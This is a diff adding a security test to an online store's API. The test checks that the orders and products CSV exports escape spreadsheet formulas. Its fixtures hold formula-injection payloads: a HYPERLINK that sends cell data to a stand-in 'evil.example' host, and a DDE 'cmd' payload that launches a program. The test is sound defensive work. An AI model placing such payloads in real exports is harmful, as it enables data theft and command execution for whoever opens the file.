@@ -1,8 +1,9 @@
 import { readdirSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, testDbKind, type TestApp } from '../app.ts';
-import { insertCartLine, insertProduct, orderPayload, productStock, testAddress } from '../commerce.ts';
+import { insertCartLine, insertProduct, orderPayload, productBody, productStock, testAddress } from '../commerce.ts';
 import { hostileRequests } from './hostile.ts';
 import { snapshot } from './invariants.ts';
 import { ROUTE_CASES, buildWorld, requestFor, uploadedPicture, type Actor, type RouteCase } from './route-cases.ts';
@@ -99,5 +100,42 @@ describe('what these tests found', () => {
     }
     expect(await snapshot(t.db)).toEqual(before);
     expect(await productStock(t.db, costly.id)).toBe(5);
+  });
+
+  it('never lets a saved address or a product title start a spreadsheet formula in the orders and products CSV exports', async () => {
+    const w = await buildWorld(t, picture.png, picture.path);
+    const a = { cookie: w.people.a.cookie };
+    const admin = { cookie: w.people.admin.cookie };
+    const formula = {
+      ...testAddress,
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      email: '=1+1@evil.example',
+      phone: '-2+3',
+      street: "=cmd|' /C calc'!A0",
+      city: '+SUM(1,1)',
+      state: '@SUM(1,1)',
+      pinCode: '\t=A1',
+    };
+    const saved = await t.app.inject({ method: 'PATCH', url: `/api/users/${w.people.a.id}`, headers: a, payload: { addresses: [formula] } });
+    expect(saved.statusCode, saved.body).toBe(200);
+    // Checkout sends the saved address back, as the web app does.
+    const address = saved.json<{ addresses: (typeof formula)[] }>().addresses[0];
+    const order = await t.app.inject({ method: 'POST', url: '/api/orders', headers: a, payload: orderPayload('cash', { selectedAddress: address }) });
+    expect(order.statusCode, order.body).toBe(201);
+    const product = await t.app.inject({
+      method: 'POST',
+      url: '/api/products',
+      headers: admin,
+      payload: productBody(picture.path, { title: '=SUM(1,1) Silk', brand: '+Brand', description: '@SUM(A1)', category: '-sarees', countryOfOrigin: '=India' }),
+    });
+    expect(product.statusCode, product.body).toBe(201);
+
+    for (const [url, typed] of [['/api/orders/export', formula.name], ['/api/products/export', '=SUM(1,1) Silk']] as const) {
+      const res = await t.app.inject({ url, headers: admin });
+      expect(res.statusCode, res.body).toBe(200);
+      const cells = (parse(res.body, { bom: true }) as string[][]).flat();
+      expect(cells, url).toContain(`'${typed}`);
+      for (const cell of cells) expect(cell, `${url}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
   });
 });
